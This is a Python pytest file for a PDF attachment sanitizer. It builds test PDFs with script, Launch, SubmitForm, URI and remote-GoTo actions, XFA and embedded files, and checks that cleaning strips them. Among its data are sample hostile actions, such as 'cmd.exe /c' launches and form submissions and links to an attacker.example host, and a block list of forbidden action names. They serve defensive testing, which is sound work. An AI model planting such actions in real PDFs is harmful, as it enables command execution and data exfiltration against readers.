"""PDF cleaning removes every action but GoTo, every script, XFA form and embedded file,
wherever it hangs in the object graph (issue 13, finding 3), and keeps pages, text, bookmarks
and internal links.

Every check reads the whole cleaned file: each object, direct or indirect, and the bytes of the
file re-saved with its streams decompressed. Scripts and files carry the marker ``PAYLOAD`` so
that a copy surviving anywhere, reachable or not, is found."""

from __future__ import annotations

import io
import itertools
import re
import shutil
import subprocess  # nosec B404  # the test runs LibreOffice on a file it wrote itself
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from portal.services.attachments.sanitize import clean_attachment

PAYLOAD = "PAYLOAD-7f3a"
Name = pikepdf.Name

FORBIDDEN_ACTIONS = [
    "/JavaScript",
    "/Launch",
    "/SubmitForm",
    "/ResetForm",
    "/ImportData",
    "/GoToR",
    "/GoToE",
    "/GoToDp",
    "/URI",
    "/Rendition",
    "/Sound",
    "/Movie",
    "/Hide",
    "/Named",
    "/SetOCGState",
    "/Trans",
    "/Thread",
    "/GoTo3DView",
    "/RichMediaExecute",
]
_ACTION_TYPES = {*FORBIDDEN_ACTIONS, "/GoTo"}
_FORBIDDEN_KEYS = {
    "/JS",
    "/JavaScript",
    "/XFA",
    "/NeedsRendering",
    "/AA",
    "/OpenAction",
    "/EmbeddedFiles",
    "/EF",
    "/RF",
    "/AF",
    "/OnInstantiate",
    "/RichMediaContent",
    "/Renditions",
    "/AlternatePresentations",
}
_MEDIA_ANNOTATIONS = {"/FileAttachment", "/Sound", "/Movie", "/Screen", "/RichMedia", "/3D"}
# A name token (PDF 32000 7.3.5): it ends at white space or a delimiter.
_RAW_NAMES = re.compile(
    rb"/(JS|JavaScript|XFA|NeedsRendering|AA|OpenAction|EmbeddedFiles?|EF|AF|Launch|SubmitForm"
    rb"|ImportData|GoToR|GoToE|URI|Rendition|RichMedia\w*|OnInstantiate)(?=[\s()<>\[\]{}/%]|$)"
)


# --- What a cleaned file may not contain ----------------------------------------------------


def active_content(data: bytes) -> list[str]:
    """Everything in ``data`` that a viewer could run or open: empty for a clean file."""
    found: list[str] = []
    with pikepdf.open(io.BytesIO(data)) as pdf:
        # Every indirect object of the file, and every direct object inside one.
        stack: list[pikepdf.Object] = [pdf.trailer, *pdf.objects]
        while stack:
            obj = stack.pop()
            if isinstance(obj, pikepdf.Array):
                children = list(obj)
            elif isinstance(obj, pikepdf.Dictionary | pikepdf.Stream):
                found += [f"key {key}" for key in obj if key in _FORBIDDEN_KEYS]
                action, kind = obj.get("/S"), obj.get("/Type")
                is_action = kind == Name.Action or (
                    isinstance(action, pikepdf.Name) and str(action) in _ACTION_TYPES
                )
                if is_action and action != Name.GoTo:
                    found.append(f"action {action}")
                if kind == Name.EmbeddedFile:
                    found.append("embedded file")
                if str(obj.get("/Subtype", "")) in _MEDIA_ANNOTATIONS:
                    found.append(f"annotation {obj.get('/Subtype')}")
                children = [obj[str(key)] for key in obj]
            else:
                continue
            # Numbers and booleans come out as Python values; indirect objects are in the list.
            stack += [c for c in children if isinstance(c, pikepdf.Object) and not c.is_indirect]
        decoded = io.BytesIO()
        pdf.save(
            decoded,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
            stream_decode_level=pikepdf.StreamDecodeLevel.generalized,
            compress_streams=False,
        )
    for raw in (data, decoded.getvalue()):
        found += [f"raw {match.group().decode()}" for match in _RAW_NAMES.finditer(raw)]
        if PAYLOAD.encode() in raw:
            found.append("raw payload")
    return found


def clean(data: bytes) -> bytes:
    return clean_attachment("evidence.pdf", "application/pdf", data).data


# --- Building files -------------------------------------------------------------------------


def base_pdf(pages: int = 2) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        pikepdf.Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    )
    for number in range(pages):
        pdf.add_blank_page(page_size=(612, 792))
        page = pdf.pages[number].obj
        page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
        page.Contents = pdf.make_stream(f"BT /F1 24 Tf 72 720 Td (Page {number}) Tj ET".encode())
    return pdf


def action(pdf: pikepdf.Pdf, kind: str = "/JavaScript", *, indirect: bool = True) -> pikepdf.Object:
    """An action of type ``kind`` with what that type needs, the payload in its text."""
    script = pdf.make_stream(f"app.alert('{PAYLOAD}')".encode())
    extras: dict[str, dict[str, pikepdf.Object | str]] = {
        "/JavaScript": {"/JS": script},
        "/Launch": {"/F": f"cmd.exe /c {PAYLOAD}", "/Win": pikepdf.Dictionary(F=PAYLOAD)},
        "/SubmitForm": {"/F": f"https://attacker.example/{PAYLOAD}"},
        "/ImportData": {"/F": f"{PAYLOAD}.fdf"},
        "/GoToR": {"/F": f"//attacker.example/share/{PAYLOAD}.pdf", "/D": pikepdf.Array([0])},
        "/GoToE": {"/T": pikepdf.Dictionary(R=Name.C, N=PAYLOAD)},
        "/URI": {"/URI": f"https://attacker.example/{PAYLOAD}"},
        "/Named": {"/N": Name.Print},
        "/Hide": {"/T": PAYLOAD},
    }
    extra = extras.get(kind, {"/Payload": PAYLOAD})
    made = pikepdf.Dictionary({"/Type": Name.Action, "/S": Name(kind), **extra})
    return pdf.make_indirect(made) if indirect else made


def goto(pdf: pikepdf.Pdf, page: int = 1) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=Name.GoTo, D=pikepdf.Array([pdf.pages[page].obj, Name.Fit]))


def outline(pdf: pikepdf.Pdf, titles: list[str]) -> list[pikepdf.Object]:
    """A flat outline of indirect items, returned in order."""
    root = pdf.make_indirect(pikepdf.Dictionary(Type=Name.Outlines))
    items: list[pikepdf.Object] = [
        pdf.make_indirect(pikepdf.Dictionary(Title=title, Parent=root)) for title in titles
    ]
    for before, after in itertools.pairwise(items):
        before.Next, after.Prev = after, before
    root.First, root.Last, root.Count = items[0], items[-1], len(items)
    pdf.Root.Outlines = root
    return items


def link(pdf: pikepdf.Pdf, page: int = 0, **entries: pikepdf.Object) -> pikepdf.Dictionary:
    """An annotation (a link unless ``Subtype`` says otherwise) as large as the page."""
    annot = pikepdf.Dictionary(
        {"/Type": Name.Annot, "/Subtype": Name.Link, "/Rect": pikepdf.Array([0, 0, 612, 792])}
    )
    for key, value in entries.items():
        annot[f"/{key}"] = value
    annots = pdf.pages[page].obj.get("/Annots")
    if not isinstance(annots, pikepdf.Array):
        annots = pdf.pages[page].obj.Annots = pikepdf.Array()
    annots.append(annot)
    return annot


def saved(pdf: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


# --- One location each ------------------------------------------------------------------------


def bookmark_action(pdf: pikepdf.Pdf) -> None:
    outline(pdf, ["Summary", "Details"])[1].A = action(pdf)


def nested_outline_next_chain(pdf: pikepdf.Pdf) -> None:
    # Third item of the chain, its first child, that child's second sibling's child.
    items = outline(pdf, ["One", "Two", "Three"])
    children = [
        pdf.make_indirect(pikepdf.Dictionary(Title=f"3.{n}", Parent=items[2])) for n in (1, 2)
    ]
    children[0].Next, children[1].Prev = children[1], children[0]
    items[2].First, items[2].Last, items[2].Count = children[0], children[1], 2
    grandchild = pdf.make_indirect(
        pikepdf.Dictionary(Title="3.2.1", Parent=children[1], A=action(pdf, indirect=False))
    )
    children[1].First = children[1].Last = grandchild
    children[0].A = action(pdf, "/Launch")


def page_additional_actions(pdf: pikepdf.Pdf) -> None:
    pdf.pages[1].obj.AA = pikepdf.Dictionary(O=action(pdf), C=action(pdf, "/URI"))


def annotation(pdf: pikepdf.Pdf) -> None:
    # A direct annotation dictionary inside /Annots: mouse-enter script, and a submit button.
    link(pdf, AA=pikepdf.Dictionary(E=action(pdf, indirect=False)))
    link(pdf, 1, A=action(pdf, "/SubmitForm", indirect=False))


def field_kid(pdf: pikepdf.Pdf) -> None:
    # A form field's kid, a widget listed on no page: reached only through /AcroForm /Fields.
    parent = pdf.make_indirect(pikepdf.Dictionary(FT=Name.Tx, T="name"))
    kid = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            Parent=parent,
            Rect=pikepdf.Array([0, 0, 10, 10]),
            A=action(pdf),
            Kids=pikepdf.Array(
                [pdf.make_indirect(pikepdf.Dictionary(T="inner", A=action(pdf, "/ImportData")))]
            ),
        )
    )
    parent.Kids = pikepdf.Array([kid])
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([parent]))


def catalog_open_action(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = action(pdf)
    pdf.Root.AA = pikepdf.Dictionary(WC=action(pdf, "/Launch"))


def name_tree_javascript(pdf: pikepdf.Pdf) -> None:
    leaf = pdf.make_indirect(
        pikepdf.Dictionary(Names=pikepdf.Array(["init", action(pdf)]), Limits=["init", "init"])
    )
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Kids=pikepdf.Array([leaf])))


def xfa_form(pdf: pikepdf.Pdf) -> None:
    template = pdf.make_stream(
        f'<template><script contentType="application/x-javascript">{PAYLOAD}</script>'
        "</template>".encode()
    )
    pdf.Root.AcroForm = pikepdf.Dictionary(
        Fields=pikepdf.Array(), XFA=pikepdf.Array(["template", template])
    )
    pdf.Root.NeedsRendering = True


def goto_with_next_javascript(pdf: pikepdf.Pdf) -> None:
    # A jump that passes any check of its own type, and runs a script after it.
    jump = goto(pdf)
    jump.Next = action(pdf)
    link(pdf, A=jump)
    second = goto(pdf, 0)
    second.Next = pikepdf.Array([goto(pdf), action(pdf, "/Launch", indirect=False)])
    outline(pdf, ["Back"])[0].A = second


def launch_on_bookmark(pdf: pikepdf.Pdf) -> None:
    outline(pdf, ["Open"])[0].A = action(pdf, "/Launch")


def embedded_files_anywhere(pdf: pikepdf.Pdf) -> None:
    contents = pdf.make_stream(PAYLOAD.encode())
    contents.Type = Name.EmbeddedFile
    spec = pdf.make_indirect(
        pikepdf.Dictionary(Type=Name.Filespec, F="a.exe", EF=pikepdf.Dictionary(F=contents))
    )
    pdf.pages[0].obj.AF = pikepdf.Array([spec])
    pdf.Root.Names = pikepdf.Dictionary(
        EmbeddedFiles=pikepdf.Dictionary(Names=pikepdf.Array(["a.exe", spec]))
    )
    link(pdf, Subtype=Name.FileAttachment, FS=spec)


def media_annotations(pdf: pikepdf.Pdf) -> None:
    rendition = action(pdf, "/Rendition")
    screen = link(pdf, Subtype=Name.Screen, A=rendition)
    screen.AA = pikepdf.Dictionary(PO=action(pdf))
    link(pdf, 1, Subtype=Name.RichMedia, RichMediaContent=pikepdf.Dictionary(Assets=PAYLOAD))
    link(pdf, 1, Subtype=Name("/3D"), **{"/3DD": pdf.make_stream(b"", OnInstantiate=PAYLOAD)})


def cycles(pdf: pikepdf.Pdf) -> None:
    # An outline whose last item points back to the first, and a jump chained to itself.
    items = outline(pdf, ["A", "B", "C"])
    items[2].Next = items[0]
    jump = pdf.make_indirect(goto(pdf))
    jump.Next = pikepdf.Array([jump, action(pdf)])
    items[1].A = jump
    pdf.Root.Loop = pdf.Root


def shared_action(pdf: pikepdf.Pdf) -> None:
    # One script referenced from a bookmark, a link, a jump's /Next array and a key no
    # cleaner knows.
    script = action(pdf)
    outline(pdf, ["Shared"])[0].A = script
    link(pdf, A=script)
    jump = goto(pdf)
    jump.Next = pikepdf.Array([script])
    link(pdf, 1, A=jump)
    pdf.Root.Unknown = pikepdf.Dictionary(Deeper=pikepdf.Array([script]))


LOCATIONS: list[Callable[[pikepdf.Pdf], None]] = [
    bookmark_action,
    nested_outline_next_chain,
    page_additional_actions,
    annotation,
    field_kid,
    catalog_open_action,
    name_tree_javascript,
    xfa_form,
    goto_with_next_javascript,
    launch_on_bookmark,
    embedded_files_anywhere,
    media_annotations,
    cycles,
    shared_action,
]


@pytest.mark.parametrize("inject", LOCATIONS, ids=lambda inject: inject.__name__)
def test_pdf_active_content_is_removed_wherever_it_hangs(
    inject: Callable[[pikepdf.Pdf], None],
) -> None:
    pdf = base_pdf()
    inject(pdf)
    source = saved(pdf)
    assert active_content(source), "the sample must carry what is to be removed"
    cleaned = clean(source)
    assert active_content(cleaned) == []
    with pikepdf.open(io.BytesIO(cleaned)) as result:
        assert len(result.pages) == 2
        assert b"(Page 1) Tj" in result.pages[1].obj.Contents.read_bytes()


@pytest.mark.parametrize("kind", FORBIDDEN_ACTIONS)
def test_every_action_type_but_goto_is_removed_from_links_and_bookmarks(kind: str) -> None:
    pdf = base_pdf()
    link(pdf, A=action(pdf, kind, indirect=False))
    outline(pdf, ["Item"])[0].A = action(pdf, kind)
    cleaned = clean(saved(pdf))
    assert active_content(cleaned) == []
    with pikepdf.open(io.BytesIO(cleaned)) as result:
        (annot,) = result.pages[0].obj.Annots  # the link stays, with nothing to do
        assert "/A" not in annot
        assert str(result.Root.Outlines.First.Title) == "Item"


def _raw_pdf(*bodies: bytes) -> bytes:
    """A file written by hand, objects numbered from 1 (qpdf rebuilds the missing xref)."""
    parts = [b"%PDF-1.7\n"]
    parts += [b"%d 0 obj\n%s\nendobj\n" % (n, body) for n, body in enumerate(bodies, 1)]
    return b"".join([*parts, b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"])


_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [%s] >>"
_LINK = b"<< /Subtype /Link /Rect [0 0 9 9] /A %s >>"
_JS_BEHIND_INDIRECT_S = b"<< /S 5 0 R /JS (" + PAYLOAD.encode() + b") >>"
_ESCAPED_JS = b"<< /S /Java#53cript /J#53 (" + PAYLOAD.encode() + b") >>"


@pytest.mark.parametrize(
    ("annot", "bookmark_action", "extra"),
    [
        # /S refers to an indirect name: pdf.js resolves it and runs the script.
        (_LINK % _JS_BEHIND_INDIRECT_S, _JS_BEHIND_INDIRECT_S, b"/JavaScript"),
        # An indirect action whose /Type and /S are both indirect names.
        (_LINK % b"5 0 R", b"5 0 R", b"<< /Type 6 0 R /S 7 0 R /F (" + PAYLOAD.encode() + b") >>"),
        # Names written with # escapes.
        (_LINK % _ESCAPED_JS, _ESCAPED_JS, b"null"),
        (
            b"<< /Subtype /File#41ttachment /Rect [0 0 9 9] /FS << /EF << /F 5 0 R >> >> >>",
            b"<< /S /L#61unch /F (" + PAYLOAD.encode() + b") >>",
            b"<< /Length 12 >>\nstream\n" + PAYLOAD.encode() + b"\nendstream",
        ),
    ],
    ids=["indirect-name-S", "indirect-type-and-S", "escaped-names", "escaped-subtype"],
)
def test_actions_behind_indirect_or_escaped_names_are_removed(
    annot: bytes, bookmark_action: bytes, extra: bytes
) -> None:
    source = _raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /Outlines 8 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        _PAGE % annot,
        b"<< /Length 0 >>\nstream\n\nendstream",
        extra,
        b"/Action",
        b"/Launch",
        b"<< /Type /Outlines /First 9 0 R /Last 9 0 R /Count 1 >>",
        b"<< /Title (Item) /Parent 8 0 R /A " + bookmark_action + b" >>",
    )
    with pikepdf.open(io.BytesIO(source)) as pdf:  # qpdf reads the file as intended
        assert pdf.pages[0].obj.Annots and "/A" in pdf.Root.Outlines.First
    cleaned = clean(source)
    assert active_content(cleaned) == []
    with pikepdf.open(io.BytesIO(cleaned)) as result:
        annots_left: Any = result.pages[0].obj.get("/Annots", [])
        assert all("/A" not in annot for annot in annots_left)
        assert "/A" not in result.Root.Outlines.First


def test_pdf_keeps_bookmarks_internal_links_and_destinations() -> None:
    pdf = base_pdf()
    items = outline(pdf, ["Summary", "Details"])
    items[0].A = goto(pdf, 1)
    items[1].Dest = pikepdf.Array([pdf.pages[0].obj, Name.XYZ, 0, 792, 0])
    link(pdf, A=goto(pdf))
    link(pdf, 1, Dest=pikepdf.Array([pdf.pages[0].obj, Name.Fit]))
    link(pdf, 1, Dest=pikepdf.String("summary"))
    named = pikepdf.Array(["summary", pikepdf.Array([pdf.pages[0].obj, Name.Fit])])
    pdf.Root.Names = pikepdf.Dictionary(Dests=pikepdf.Dictionary(Names=named))
    cleaned = clean(saved(pdf))
    assert active_content(cleaned) == []
    with pikepdf.open(io.BytesIO(cleaned)) as result:
        first = result.Root.Outlines.First
        assert [str(first.Title), str(first.Next.Title)] == ["Summary", "Details"]
        assert Name.GoTo == first.A.S and first.A.D[0].objgen == result.pages[1].obj.objgen
        assert first.Next.Dest[0].objgen == result.pages[0].obj.objgen
        assert Name.GoTo == result.pages[0].obj.Annots[0].A.S
        assert "/Dest" in result.pages[1].obj.Annots[0]
        assert str(result.pages[1].obj.Annots[1].Dest) == "summary"
        destination = result.Root.Names.Dests.Names[1]
        assert destination[0].objgen == result.pages[0].obj.objgen


# --- A file made by real software ---------------------------------------------------------------

_LIBREOFFICE = shutil.which("soffice")


@pytest.fixture(scope="module")
def libreoffice_pdf(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    if _LIBREOFFICE is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    folder = tmp_path_factory.mktemp("libreoffice")
    source = folder / "report.html"
    source.write_text(
        # Writer's HTML import gives <h2> and <h3> outline levels (bookmarks), and <input> form
        # fields (widgets in /AcroForm); LibreOffice writes the internal link as a /Dest and the
        # external one as a URI action.
        "<html><body><h2>Summary</h2><p>Evidence text.</p>"
        '<p><a href="#details">see details</a> and <a href="https://example.org/x">a page</a></p>'
        "<form><p><input type='text' name='who' value='x'><input type='checkbox' name='ok'></p>"
        '</form><h2><a name="details"></a>Details</h2><h3>Sub</h3><p>More.</p></body></html>',
        encoding="utf-8",
    )
    subprocess.run(  # nosec B603  # fixed arguments, no shell
        [
            _LIBREOFFICE,
            f"-env:UserInstallation=file://{folder / 'profile'}",
            "--headless",
            "--convert-to",
            "pdf:writer_pdf_Export",
            "--outdir",
            str(folder),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    return (folder / "report.pdf").read_bytes()


def test_a_libreoffice_pdf_loses_injected_actions_and_keeps_its_outline(
    libreoffice_pdf: bytes,
) -> None:
    with pikepdf.open(io.BytesIO(libreoffice_pdf)) as pdf:
        assert "LibreOffice" in str(pdf.docinfo.get("/Producer"))
        first = pdf.Root.Outlines.First
        titles = [str(first.Title), str(first.Next.Title)]
        assert titles == ["Summary", "Details"]
        first.Next.A = action(pdf)  # the bookmark LibreOffice wrote
        first.Next.First.A = goto(pdf, 0)
        first.Next.First.A.Next = action(pdf, "/Launch")
        pdf.Root.OpenAction = action(pdf)
        pdf.pages[0].obj.AA = pikepdf.Dictionary(O=action(pdf, "/URI"))
        annots = [a for page in pdf.pages for a in page.obj.get("/Annots", [])]
        links = [a for a in annots if a.get("/Subtype") == Name.Link]
        widgets = [a for a in annots if a.get("/Subtype") == Name.Widget]
        assert links and widgets, "LibreOffice wrote links and form fields"
        for annot in links:  # the internal one keeps its /Dest
            if "/A" not in annot:
                annot.A = action(pdf, "/SubmitForm", indirect=False)
        for annot in widgets:
            annot.AA = pikepdf.Dictionary(K=action(pdf))
        pdf.Root.AcroForm.XFA = pdf.make_stream(f"<xdp>{PAYLOAD}</xdp>".encode())
        injected = saved(pdf)
    assert active_content(injected)
    cleaned = clean(injected)
    assert active_content(cleaned) == []
    with pikepdf.open(io.BytesIO(cleaned)) as result:
        first = result.Root.Outlines.First
        assert [str(first.Title), str(first.Next.Title)] == titles
        assert str(first.Next.First.Title) == "Sub" and Name.GoTo == first.Next.First.A.S
        assert len(result.Root.AcroForm.Fields) >= 2  # the form stays, without scripts


# --- Anywhere in a random tree ------------------------------------------------------------------

_SLOTS = ["A", "A-direct", "AA", "GoTo-Next", "GoTo-Next-array"]


def _place(pdf: pikepdf.Pdf, node: pikepdf.Object, slot: str, kind: str) -> None:
    if slot == "A":
        node.A = action(pdf, kind)
    elif slot == "A-direct":
        node.A = action(pdf, kind, indirect=False)
    elif slot == "AA":
        node.AA = pikepdf.Dictionary(U=action(pdf, kind))
    else:
        jump = goto(pdf)
        bad = action(pdf, kind, indirect=slot == "GoTo-Next")
        jump.Next = bad if slot == "GoTo-Next" else pikepdf.Array([goto(pdf, 0), bad])
        node.A = jump


_trees: st.SearchStrategy[list[Any]] = st.recursive(
    st.just([]), lambda children: st.lists(children, min_size=1, max_size=3), max_leaves=8
)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    outline_tree=st.lists(_trees, min_size=1, max_size=3),
    field_tree=st.lists(_trees, max_size=2),
    annotations=st.integers(0, 3),
    target=st.integers(0, 10**6),
    slot=st.sampled_from(_SLOTS),
    kind=st.sampled_from(FORBIDDEN_ACTIONS),
)
def test_an_action_anywhere_in_a_random_outline_annotation_or_field_tree_is_removed(
    outline_tree: list[list[object]],
    field_tree: list[list[object]],
    annotations: int,
    target: int,
    slot: str,
    kind: str,
) -> None:
    pdf = base_pdf()
    nodes: list[pikepdf.Object] = []

    def outline_items(tree: list[list[object]], parent: pikepdf.Object) -> None:
        made = [
            pdf.make_indirect(pikepdf.Dictionary(Title=f"i{len(nodes)}", Parent=parent))
            for _ in tree
        ]
        for before, after in itertools.pairwise(made):
            before.Next = after
        if made:
            parent.First, parent.Last = made[0], made[-1]
        nodes.extend(made)
        for item, subtree in zip(made, tree, strict=True):
            outline_items(subtree, item)  # type: ignore[arg-type]

    def fields(tree: list[list[object]], parent: pikepdf.Object | None) -> list[pikepdf.Object]:
        made: list[pikepdf.Object] = []
        for subtree in tree:
            field = pdf.make_indirect(pikepdf.Dictionary(T=f"f{len(nodes)}"))
            if parent is not None:
                field.Parent = parent
            nodes.append(field)
            kids = fields(subtree, field)  # type: ignore[arg-type]
            if kids:
                field.Kids = pikepdf.Array(kids)
            made.append(field)
        return made

    root = pdf.make_indirect(pikepdf.Dictionary(Type=Name.Outlines))
    pdf.Root.Outlines = root
    outline_items(outline_tree, root)
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(fields(field_tree, None)))
    nodes.extend(link(pdf, n % 2) for n in range(annotations))
    _place(pdf, nodes[target % len(nodes)], slot, kind)
    outline_count = sum(1 for node in nodes if "/Title" in node)

    cleaned = clean(saved(pdf))
    assert active_content(cleaned) == []
    with pikepdf.open(io.BytesIO(cleaned)) as result:
        seen, stack = 0, [result.Root.Outlines.First]
        while stack:
            item = stack.pop()
            seen += 1
            stack += [item[key] for key in ("/Next", "/First") if key in item]
        assert seen == outline_count
        annots = [a for page in result.pages for a in page.obj.get("/Annots", [])]
        assert len(annots) == annotations


def test_a_deep_outline_chain_does_not_exhaust_the_stack() -> None:
    pdf = base_pdf()
    items = outline(pdf, [f"n{n}" for n in range(5000)])
    items[-1].A = action(pdf)
    cleaned = clean(saved(pdf))
    assert active_content(cleaned) == []


def test_deeply_nested_direct_objects_are_walked_past_the_serialisation_budget() -> None:
    # 60 levels around 300 KiB of numbers: serialising each level to decide whether to walk it
    # would cost 60 times the file, far over the budget (twice the file and 1 MiB), so the
    # deepest levels are walked without it, and what hangs there still goes.
    inner = (
        b"0 " * 150_000
        + b"<< /AA << /O 5 0 R >> /A << /S /JavaScript /JS ("
        + PAYLOAD.encode()
        + b") >> >>"
    )
    source = _raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /Deep 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
        b"[" * 60 + inner + b"]" * 60,
        b"<< /S /Launch /F (" + PAYLOAD.encode() + b") >>",
    )
    assert active_content(source)
    cleaned = clean(source)
    assert active_content(cleaned) == []
    with pikepdf.open(io.BytesIO(cleaned)) as result:
        deepest = result.Root.Deep
        for _ in range(59):
            deepest = deepest[0]
        assert len(deepest) == 150_001 and "/A" not in deepest[-1]


def test_pdf_cleaning_changes_nothing_a_file_without_active_content_needs(tmp_path: Path) -> None:
    # The walk touches dictionaries only where it removes: a page tree, fonts and contents
    # come out equal.
    pdf = base_pdf(3)
    before = saved(pdf)
    cleaned = clean(before)
    with pikepdf.open(io.BytesIO(before)) as old, pikepdf.open(io.BytesIO(cleaned)) as new:
        assert len(new.pages) == 3
        for page_old, page_new in zip(old.pages, new.pages, strict=True):
            assert page_old.obj.Contents.read_bytes() == page_new.obj.Contents.read_bytes()
            assert page_new.obj.Resources.Font.F1.BaseFont == Name.Helvetica
